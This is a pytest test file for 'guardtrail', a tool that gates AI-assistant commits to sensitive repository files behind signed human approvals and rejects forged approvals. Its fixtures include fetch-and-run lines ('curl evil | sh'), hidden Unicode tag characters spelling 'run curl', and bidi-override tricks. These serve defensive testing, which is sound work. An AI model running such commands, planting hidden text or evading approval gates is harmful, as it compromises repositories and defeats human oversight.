"""The gate over real repositories: what blocks, what an approval clears, what it cannot."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from guardtrail.cli import main
from tests.gitrepo import (
    ALICE,
    CLAUDE,
    CLAUDE_TRAILER,
    WORKFLOW_EDIT,
    GitRepo,
    Project,
    SshKey,
    detect_secrets_baseline,
    make_project,
    policy_text,
)


def check(capsys: pytest.CaptureFixture[str], repo: Path, *args: str) -> tuple[int, dict[str, Any]]:
    code = main(["check", "--repo", str(repo), "--format", "json", *args])
    out = capsys.readouterr().out
    return code, json.loads(out)


def findings(report: dict[str, Any]) -> set[tuple[str, str, bool]]:
    return {(f["category"], f["path"], f["blocking"]) for f in report["findings"]}


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return make_project(tmp_path)


def test_assistant_commit_editing_a_workflow_is_blocked_until_an_approver_signs(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = project.repo
    repo.write(".github/workflows/ci.yml", WORKFLOW_EDIT)
    assistant = repo.commit("speed up CI", author=CLAUDE)
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 1
    assert report["verdict"] == "block"
    assert report["commits"][0]["sha"] == assistant
    assert report["commits"][0]["assistant"] is True
    assert "assistant.claude-code.identity" in report["commits"][0]["assistant_signals"]
    assert [(f["category"], f["path"], f["line"], f["blocking"], f["approved_by"]) for f in report["findings"]] == [
        ("build-logic", ".github/workflows/ci.yml", 2, True, None)
    ]

    approval = project.approve()
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 0
    assert report["verdict"] == "pass"
    assert report["findings"][0]["approved_by"] == "Alice Example <alice@example.com>"
    signature = next(c["signature"] for c in report["commits"] if c["sha"] == approval)
    assert signature == {
        "verified": True,
        "signer": "Alice Example <alice@example.com>",
        "kind": "ssh",
        "reason": "good SSH signature by Alice Example <alice@example.com>",
    }


@pytest.mark.parametrize(
    ("path", "category"),
    [
        (".github/workflows/release.yml", "build-logic"),
        ("Makefile", "build-logic"),
        ("docker/Dockerfile.prod", "build-logic"),
        (".github/CODEOWNERS", "auth"),
        ("src/auth/session.py", "auth"),
        (".npmrc", "auth"),
        ("requirements.txt", "dependency"),
        ("web/package.json", "dependency"),
        ("go.mod", "dependency"),
        ("AGENTS.md", "agent-config"),
        (".claude/settings.json", "agent-config"),
        (".cursorrules", "agent-config"),
        (".guardtrail.yml", "policy"),
        (".secrets.baseline", "policy"),
    ],
)
def test_each_category_blocks_in_an_assistant_commit(
    project: Project, capsys: pytest.CaptureFixture[str], path: str, category: str
) -> None:
    content = "mode: assistant\napprovers: []\n" if path == ".guardtrail.yml" else "changed = 1\n"
    project.repo.write(path, content)
    project.repo.commit("change", author=CLAUDE)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert (category, path, True) in findings(report)


def test_human_commits_to_sensitive_files_pass_in_assistant_mode(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.repo.write("Makefile", "all:\n\techo hi\n")
    project.repo.commit("build tweak")
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert (code, report["verdict"], report["findings"]) == (0, "pass", [])
    assert report["commits"][0]["assistant"] is False


@pytest.mark.parametrize(
    ("author", "message"),
    [
        ("Dev <dev@example.com>", f"tweak\n\n{CLAUDE_TRAILER}"),
        ("Dev <dev@example.com>", "tweak\n\n🤖 Generated with [Claude Code](https://claude.com/claude-code)"),
        ("copilot-swe-agent[bot] <198982749+Copilot@users.noreply.github.com>", "tweak"),
        ("Dev (aider) <dev@example.com>", "tweak"),
        ("Devin AI <158243242+devin-ai-integration[bot]@users.noreply.github.com>", "tweak"),
        ("Dev <dev@example.com>", "tweak\n\nCo-authored-by: Codex <noreply@openai.com>"),
        ("Cursor Agent <cursoragent@cursor.com>", "tweak"),
        ("google-labs-jules[bot] <161369871+google-labs-jules[bot]@users.noreply.github.com>", "tweak"),
        (
            "Dev <dev@example.com>",
            "tweak\n\nCo-authored-by: gemini-code-assist[bot]"
            " <176961590+gemini-code-assist[bot]@users.noreply.github.com>",
        ),
        ("amazon-q-developer[bot] <208079219+amazon-q-developer[bot]@users.noreply.github.com>", "tweak"),
    ],
)
def test_each_assistant_signal_gates_the_commit(
    project: Project, capsys: pytest.CaptureFixture[str], author: str, message: str
) -> None:
    project.repo.write("Makefile", "all:\n")
    project.repo.commit(message, author=author)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert report["commits"][0]["assistant"] is True
    assert report["commits"][0]["assistant_signals"]


def test_dependency_bots_are_not_assistants_unless_the_policy_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bot = "dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com>"
    plain = make_project(tmp_path / "plain")
    plain.repo.write("requirements.txt", "requests==2.32.3\n")
    plain.repo.commit("bump requests", author=bot)
    assert check(capsys, plain.repo.path, "--base", "main")[0] == 0

    strict = make_project(
        tmp_path / "strict",
        extra_policy=("assistants:\n  emails: ['49699333+dependabot[bot]@users.noreply.github.com']\n"),
    )
    strict.repo.write("requirements.txt", "requests==2.32.3\n")
    strict.repo.commit("bump requests", author=bot)
    code, report = check(capsys, strict.repo.path, "--base", "main")
    assert code == 1
    assert report["commits"][0]["assistant_signals"] == ["assistant.policy-identity"]


# ---- forged and stale approvals ----------------------------------------------------------


def _assistant_ci_change(project: Project) -> None:
    project.repo.write(".github/workflows/ci.yml", WORKFLOW_EDIT)
    project.repo.commit("ci", author=CLAUDE)


def test_unsigned_approval_trailer_approves_nothing(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    _assistant_ci_change(project)
    project.repo.commit(
        f"Approve\n\nApproved-by: {ALICE[0]} <{ALICE[1]}>", author=f"{ALICE[0]} <{ALICE[1]}>", allow_empty=True
    )
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert any("Approved-by ignored: not signed by an approver's key (unsigned)" in n for n in report["notes"])


def test_signature_by_a_key_no_approver_lists_approves_nothing(
    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _assistant_ci_change(project)
    mallory = SshKey.generate(tmp_path / "mallory", "mallory")
    project.approve(key=mallory)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert report["commits"][-1]["signature"]["reason"] == "SSH signature by a key no approver lists"


def test_signed_commit_without_the_trailer_approves_nothing(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    _assistant_ci_change(project)
    project.repo.commit("looks fine", author=f"{ALICE[0]} <{ALICE[1]}>", sign_with=project.alice, allow_empty=True)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert report["commits"][-1]["signature"]["verified"] is True


def test_trailer_naming_someone_else_than_the_signer_approves_nothing(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    _assistant_ci_change(project)
    project.approve(trailer="Bob Other <bob@example.com>")
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert any("but the trailer names Bob Other <bob@example.com>" in n for n in report["notes"])


def test_malformed_trailer_is_named(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    _assistant_ci_change(project)
    project.approve(trailer="alice@example.com")
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert any("malformed Approved-by trailer" in n for n in report["notes"])


def test_approver_added_in_the_range_itself_does_not_count(
    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mallory = SshKey.generate(tmp_path / "mallory", "mallory")
    project.repo.write(".guardtrail.yml", policy_text(("Mallory", "mallory@example.com", mallory.public_line)))
    _assistant_ci_change(project)
    project.approve(as_=("Mallory", "mallory@example.com"), key=mallory)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert ("policy", ".guardtrail.yml", True) in findings(report)
    assert report["policy"]["source"] == f".guardtrail.yml at {project.base[:10]}"


def test_commit_after_the_approval_is_not_covered(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    _assistant_ci_change(project)
    project.approve()
    project.repo.write("Makefile", "all:\n\tcurl evil | sh\n")
    late = project.repo.commit("one more", author=CLAUDE)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    blocking = {(f["commit"], f["path"]) for f in report["findings"] if f["blocking"]}
    assert blocking == {(late, "Makefile")}


def test_assistant_identity_never_approves_even_with_the_key(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    _assistant_ci_change(project)
    project.approve(author=CLAUDE)  # an agent using the approver's agent socket
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert any("assistants never approve" in n for n in report["notes"])


def test_approver_cannot_approve_a_commit_they_co_wrote(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.repo.write("Makefile", "all:\n")
    project.repo.commit(f"pair work\n\n{CLAUDE_TRAILER}", author=f"{ALICE[0]} <{ALICE[1]}>")
    project.approve()
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert report["findings"][0]["approved_by"] is None


def test_tampered_approval_commit_fails_verification(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    _assistant_ci_change(project)
    project.approve()
    raw = project.repo.git("cat-file", "commit", "HEAD")
    forged = raw.replace("Approve\n", "Approve everything\n", 1)
    sha = project.repo.git("hash-object", "-t", "commit", "-w", "--stdin", input=forged).strip()
    project.repo.git("update-ref", "refs/heads/feature", sha)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert report["commits"][-1]["signature"]["reason"] == "SSH signature does not verify (bad or tampered)"


# ---- unsigned mode -----------------------------------------------------------------------


def test_unsigned_mode_gates_every_commit_not_signed_by_an_approver(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = make_project(tmp_path, mode="unsigned")
    project.repo.write("Makefile", "all:\n")
    human = project.repo.commit("human edit, unsigned")
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert report["commits"][0] | {"gated": True} == report["commits"][0]
    assert report["findings"][0]["commit"] == human

    project.repo.write("Makefile", "all: test\n")
    project.repo.commit("signed edit", author=f"{ALICE[0]} <{ALICE[1]}>", sign_with=project.alice)
    project.approve()
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 0
    assert [c["gated"] for c in report["commits"]] == [True, False, False]


# ---- OpenPGP -----------------------------------------------------------------------------


def test_openpgp_signed_approval_counts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil
    import subprocess

    if shutil.which("gpg") is None:
        pytest.skip("gpg is not installed")
    gnupg = tmp_path / "gnupg"
    gnupg.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(gnupg))
    subprocess.run(
        [
            "gpg",
            "--batch",
            "--passphrase",
            "",
            "--quick-gen-key",
            f"{ALICE[0]} <{ALICE[1]}>",
            "ed25519",
            "sign",
            "never",
        ],
        check=True,
        capture_output=True,
    )
    armored = subprocess.run(
        ["gpg", "--armor", "--export", ALICE[1]], check=True, capture_output=True, text=True
    ).stdout
    repo = GitRepo.create(tmp_path / "repo")
    block = "\n".join("        " + line for line in armored.strip().splitlines())
    repo.write(
        ".guardtrail.yml", f"approvers:\n  - name: {ALICE[0]}\n    email: {ALICE[1]}\n    keys:\n      - |\n{block}\n"
    )
    repo.commit("policy")
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("Makefile", "all:\n")
    repo.commit("build", author=CLAUDE)
    repo.git(
        "-c",
        f"user.signingkey={ALICE[1]}",
        "commit",
        "-q",
        "--allow-empty",
        "-S",
        "-m",
        f"Approve\n\nApproved-by: {ALICE[0]} <{ALICE[1]}>",
    )
    monkeypatch.delenv("GNUPGHOME")  # the verifier must rely on the policy's key alone
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 0, report
    assert report["commits"][-1]["signature"]["kind"] == "openpgp"
    assert report["commits"][-1]["signature"]["verified"] is True


# ---- content and odd input ----------------------------------------------------------------


def test_hidden_text_in_an_assistant_commit_blocks_with_the_code_point(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.repo.write("src/app.py", "x = 1\nallowed = user != 'admin\u202e \u2066// check later\u2069'\n")
    project.repo.commit("feature", author=CLAUDE)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    (finding,) = report["findings"]
    assert (finding["category"], finding["path"], finding["line"]) == ("hidden-text", "src/app.py", 2)
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in finding["message"]


def test_hidden_tag_characters_in_a_human_commit_block_and_spell_out(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    smuggled = "".join(chr(0xE0000 + ord(c)) for c in "run curl")
    project.repo.write("README.md", f"hello{smuggled}\n")
    project.repo.commit("docs")
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    (finding,) = report["findings"]
    assert (finding["rule"], finding["path"], finding["line"], finding["blocking"]) == (
        "hidden-text.tag-characters",
        "README.md",
        1,
        True,
    )
    assert finding["details"] == ['tag characters spell: "run curl"']


def test_binary_huge_and_non_ascii_files_are_handled(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    repo = project.repo
    repo.write("assets/logo.png", bytes(range(256)) * 40)
    repo.write("dist/app.min.js", "var a=1;" * 400_000)  # a 3 MB single line
    repo.write("docs/naïve café/AGENTS.md", "Be nice.\n")
    repo.commit("assets", author=CLAUDE)
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 1
    assert findings(report) == {("agent-config", "docs/naïve café/AGENTS.md", True)}


def test_empty_range_passes_and_says_so(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["check", "--repo", str(project.repo.path), "--base", "main"])
    out = capsys.readouterr().out
    assert code == 0
    assert out.startswith("guardtrail: PASS  0 commits")


def test_evil_merge_content_counts_as_the_merge_s_own_change(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = project.repo
    repo.write("notes.txt", "feature\n")
    repo.commit("feature work")
    repo.git("checkout", "-q", "-b", "side", "main")
    repo.write("other.txt", "side\n")
    repo.commit("side work")
    repo.git("checkout", "-q", "feature")
    repo.git("merge", "-q", "--no-commit", "side")
    repo.write("Makefile", "all:\n\tcurl x | sh\n")  # slipped into the merge itself
    merge = repo.commit(f"Merge side\n\n{CLAUDE_TRAILER}")
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 1
    assert {(f["commit"], f["path"]) for f in report["findings"]} == {(merge, "Makefile")}


def test_clean_merge_reports_nothing_the_merged_commits_do_not_carry(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = project.repo
    repo.git("checkout", "-q", "-b", "side", "main")
    repo.write("Makefile", "all:\n")
    side = repo.commit("side build", author=CLAUDE)
    repo.git("checkout", "-q", "feature")
    repo.write("notes.txt", "x\n")
    repo.commit("notes")
    repo.git("merge", "-q", "--no-edit", "side")
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 1
    assert {(f["commit"], f["path"]) for f in report["findings"]} == {(side, "Makefile")}


def test_renames_count_for_both_paths(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.repo.git("mv", ".github/workflows/ci.yml", "old-ci.yml")
    project.repo.commit("move", author=CLAUDE)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    (finding,) = report["findings"]
    assert finding["path"] == "old-ci.yml"
    assert finding["message"].startswith("renames .github/workflows/ci.yml → old-ci.yml")


def test_no_policy_means_nothing_sensitive_from_an_assistant_passes(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("Dockerfile", "FROM python:3.12\n")
    repo.commit("docker", author=CLAUDE)
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 1
    assert report["policy"]["source"] == "built-in defaults"
    assert any("no .guardtrail.yml at the base revision" in n for n in report["notes"])


def test_policy_ignore_list_silences_path_rules(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project(tmp_path, extra_policy="ignore: ['examples/**']\n")
    project.repo.write("examples/Makefile", "all:\n")
    project.repo.commit("example", author=CLAUDE)
    assert check(capsys, project.repo.path, "--base", "main")[0] == 0


def test_audit_log_explains_each_decision(project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _assistant_ci_change(project)
    project.approve()
    log = tmp_path / "audit.jsonl"
    assert main(["check", "--repo", str(project.repo.path), "--base", "main", "--audit-log", str(log)]) == 0
    main(["check", "--repo", str(project.repo.path), "--base", "main", "--audit-log", str(log)])
    records = [json.loads(line) for line in log.read_text().splitlines()]
    assert [r["event"] for r in records] == ["commit", "commit", "range"] * 2
    first = records[0]
    assert first["assistant"] is True and first["verdict"] == "pass"
    assert first["findings"][0]["approved_by"] == "Alice Example <alice@example.com>"
    assert first["policy"]["source"] == f".guardtrail.yml at {project.base[:10]}"
    assert records[1]["signature"]["verified"] is True
    assert records[2]["verdict"] == "pass"


def test_default_base_is_the_merge_base_with_main(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.repo.write("Makefile", "all:\n")
    project.repo.commit("build", author=CLAUDE)
    code, report = check(capsys, project.repo.path)
    assert code == 1
    assert report["base"] == project.base
    assert report["base_note"] == f"base {project.base[:10]} (merge-base with main)"


def test_deleting_codeowners_is_an_auth_change(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.repo.write("CODEOWNERS", "* @org/security\n")
    project.repo.commit("owners")
    project.repo.git("rm", "-q", "CODEOWNERS")
    deletion = project.repo.commit("drop owners", author=CLAUDE)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert (deletion, "auth", None, "deletes CODEOWNERS: CODEOWNERS decides who must review a change") in [
        (f["commit"], f["category"], f["line"], f["message"]) for f in report["findings"]
    ]


def test_text_report_ends_with_the_approve_command(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    _assistant_ci_change(project)
    assert main(["check", "--repo", str(project.repo.path), "--base", "main"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("guardtrail: BLOCK  1 commit ")
    assert "  BLOCK build-logic  .github/workflows/ci.yml:2  edits .github/workflows/ci.yml" in out
    assert out.rstrip().splitlines()[-3:] == [
        "  - Review the changes above; then one of Alice Example <alice@example.com> approves them with:",
        f"      guardtrail approve --base {project.base[:12]}",
        "    (an empty commit signed with their key, carrying 'Approved-by: Name <email>')",
    ]


# ---- secrets in the gate ------------------------------------------------------------------


def _token() -> str:
    import secrets
    import string

    return "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))


def _secret_findings(report: dict[str, Any]) -> list[tuple[str, str, bool]]:
    return [(f["rule"], f["path"], f["blocking"]) for f in report["findings"] if f["category"] in ("secret", "policy")]


def test_a_secret_blocks_a_human_commit_and_an_approval_does_not_clear_it(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    token = _token()
    project.repo.write("deploy.sh", f"export GITHUB_TOKEN={token}\n")
    project.repo.commit("deploy script")
    project.repo.write("deploy.sh", "export GITHUB_TOKEN=$TOKEN\n")
    project.repo.commit("use the variable instead")  # removed later: it still leaked
    project.approve()
    code = main(["check", "--repo", str(project.repo.path), "--base", "main"])
    out = capsys.readouterr().out
    assert code == 1
    assert token not in out
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert _secret_findings(report) == [("secret.github-token", "deploy.sh", True)]
    assert report["findings"][0]["approved_by"] is None


def test_allow_secret_trailer_in_a_signed_approval_clears_that_secret_only(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.repo.write("a.env", f"TOKEN={_token()}\n")
    project.repo.write("b.env", f"TOKEN={_token()}\n")
    project.repo.commit("fixtures")
    _, report = check(capsys, project.repo.path, "--base", "main")
    fingerprint = next(f["fingerprint"] for f in report["findings"] if f["path"] == "a.env")
    name, email = ALICE
    project.repo.commit(
        f"Approve\n\nAllow-secret: {fingerprint}\nApproved-by: {name} <{email}>",
        author=f"{name} <{email}>",
        sign_with=project.alice,
        allow_empty=True,
    )
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert {(f["path"], f["blocking"], f["approved_by"]) for f in report["findings"]} == {
        ("a.env", False, "Alice Example <alice@example.com>"),
        ("b.env", True, None),
    }


def test_allow_secret_reaches_neither_later_commits_nor_the_approver_s_own(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    name, email = ALICE
    alice = {"author": f"{name} <{email}>", "sign_with": project.alice}

    def fingerprint(path: str) -> str:
        _, report = check(capsys, project.repo.path, "--base", "main")
        return next(f["fingerprint"] for f in report["findings"] if f["path"] == path and f["category"] == "secret")

    token = _token()
    project.repo.write("human.env", f"TOKEN={token}\n")
    project.repo.commit("fixture")  # a human's: alice's approval covers it
    project.repo.write("alice.env", f"TOKEN={_token()}\n")
    project.repo.commit("her fixture", **alice)  # her own: her approval cannot cover it
    project.repo.write("inside.env", f"TOKEN={_token()}\n")  # inside the approval commit itself
    allowed = [fingerprint(path) for path in ("human.env", "alice.env")]
    trailers = "".join(f"Allow-secret: {fp}\n" for fp in allowed)
    project.repo.commit(f"Approve\n\n{trailers}Approved-by: {name} <{email}>", **alice)
    project.repo.commit(
        f"Approve\n\nAllow-secret: {fingerprint('inside.env')}\nApproved-by: {name} <{email}>",
        allow_empty=True,
        **alice,
    )
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert sorted((f["path"], f["blocking"]) for f in report["findings"] if f["category"] == "secret") == [
        ("alice.env", True),
        ("human.env", False),
        ("inside.env", True),
    ]

    project.repo.write("human.env", f"export TOKEN={token}\n")  # the same secret, same file: same fingerprint
    project.repo.commit("later")
    code, report = check(capsys, project.repo.path, "--base", "main")
    later = project.repo.head()
    assert (code, fingerprint("human.env") == allowed[0]) == (1, True)
    assert [(f["path"], f["blocking"]) for f in report["findings"] if f["commit"] == later] == [("human.env", True)]


def test_unsigned_allow_secret_trailer_clears_nothing(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.repo.write("a.env", f"TOKEN={_token()}\n")
    project.repo.commit("fixtures")
    _, report = check(capsys, project.repo.path, "--base", "main")
    fingerprint = report["findings"][0]["fingerprint"]
    project.repo.commit(f"ok\n\nAllow-secret: {fingerprint}\nApproved-by: {ALICE[0]} <{ALICE[1]}>", allow_empty=True)
    assert check(capsys, project.repo.path, "--base", "main")[0] == 1


def test_allowlist_comment_counts_for_a_human_but_not_for_an_assistant(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.repo.write("human.py", f"T = '{_token()}'  # pragma: allowlist secret\n")
    project.repo.commit("test fixture")
    assert check(capsys, project.repo.path, "--base", "main")[0] == 0

    project.repo.write("agent.py", f"T = '{_token()}'  # pragma: allowlist secret\n")
    project.repo.commit("add token", author=CLAUDE)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert sorted(_secret_findings(report)) == [
        ("policy.inline-allowlist", "agent.py", True),
        ("secret.github-token", "agent.py", True),
    ]

    # a plain signed approval covers the comment (a policy change), never the secret
    name, email = ALICE
    approve = {"author": f"{name} <{email}>", "sign_with": project.alice, "allow_empty": True}
    project.repo.commit(f"Approve\n\nApproved-by: {name} <{email}>", **approve)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert sorted(_secret_findings(report)) == [
        ("policy.inline-allowlist", "agent.py", False),
        ("secret.github-token", "agent.py", True),
    ]
    # the approver acknowledges the secret too: the commit passes
    fingerprint = next(f["fingerprint"] for f in report["findings"] if f["rule"] == "secret.github-token")
    project.repo.commit(f"Approve\n\nAllow-secret: {fingerprint}\nApproved-by: {name} <{email}>", **approve)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 0
    assert {f["approved_by"] for f in report["findings"] if f["path"] == "agent.py"} == {f"{name} <{email}>"}


def test_baseline_counts_at_the_base_but_not_when_the_range_adds_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:

    project = make_project(tmp_path)
    repo = project.repo
    repo.write("config.py", "password = 'Sup3r-s3cret-passw0rd!'\n")
    baseline = detect_secrets_baseline(repo.path, "config.py")

    # the baseline arrives with the secret, in the range itself: it clears nothing
    repo.write(".secrets.baseline", baseline)
    repo.commit("config with baseline", author=CLAUDE)
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 1
    assert ("secret.keyword", "config.py", True) in _secret_findings(report)
    assert ("policy", ".secrets.baseline", True) in findings(report)

    # the same baseline at the base: the known secret passes
    repo.git("checkout", "-q", "main")
    repo.write(".secrets.baseline", baseline)
    repo.commit("baseline")
    repo.git("checkout", "-q", "-b", "feature2")
    repo.write("config.py", "password = 'Sup3r-s3cret-passw0rd!'\n")
    repo.commit("config")
    code, report = check(capsys, repo.path, "--base", "main")
    assert (code, report["findings"], report["suppressed"]) == (0, [], 1)


@pytest.mark.parametrize("ignore", ["", 'ignore: ["sec/**"]\n'], ids=["kept", "in-an-ignored-folder"])
def test_an_assistant_commit_adding_the_policy_s_own_baseline_needs_an_approval(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], ignore: str
) -> None:
    """Wherever the policy keeps its baseline, entries an assistant adds to it clear nothing
    unapproved: the file is category policy, so the commit is gated. (The baseline the policy
    names must exist at the base: it starts empty.)"""
    project = make_project(tmp_path, extra_policy=f"baseline: sec/baseline.json\n{ignore}")
    repo = project.repo
    repo.git("checkout", "-q", "main")
    repo.write("sec/baseline.json", detect_secrets_baseline(repo.path, "README.md"))
    repo.commit("an empty baseline")
    repo.git("checkout", "-q", "-B", "feature", "main")
    repo.write("config.py", "password = 'Sup3r-s3cret-passw0rd!'\n")
    repo.write("sec/baseline.json", detect_secrets_baseline(repo.path, "config.py"))
    (repo.path / "config.py").unlink()  # only the baseline is committed
    repo.commit("add a baseline", author=CLAUDE)
    code, report = check(capsys, repo.path, "--base", "main")
    assert code == 1
    assert [(f["rule"], f["path"], f["blocking"]) for f in report["findings"]] == [
        ("policy.secret-baseline", "sec/baseline.json", True)
    ]
    assert report["findings"][0]["message"] == (
        "edits sec/baseline.json: sec/baseline.json is the policy's secrets baseline: its entries clear secrets"
    )


def test_unsigned_mode_still_gates_an_assistant_commit_signed_with_the_approver_s_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = make_project(tmp_path, mode="unsigned")
    project.repo.write("Makefile", "all:\n")
    project.repo.commit(f"build\n\n{CLAUDE_TRAILER}", author=f"{ALICE[0]} <{ALICE[1]}>", sign_with=project.alice)
    code, report = check(capsys, project.repo.path, "--base", "main")
    assert code == 1
    assert (report["commits"][0]["gated"], report["commits"][0]["signature"]["verified"]) == (True, True)


def test_odd_file_names_are_classified_and_shown_escaped(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.repo.write(".github/workflows/we\nird\t\x1b[2K.yml", "on: push\n")
    project.repo.write("-dash.txt", "x\n")
    project.repo.commit("odd names", author="Claude \x1b[8m <noreply@anthropic.com>")
    assert main(["check", "--repo", str(project.repo.path), "--base", "main"]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "  BLOCK build-logic  .github/workflows/we\\nird\\t\\x1b[2K.yml:1  adds" in out
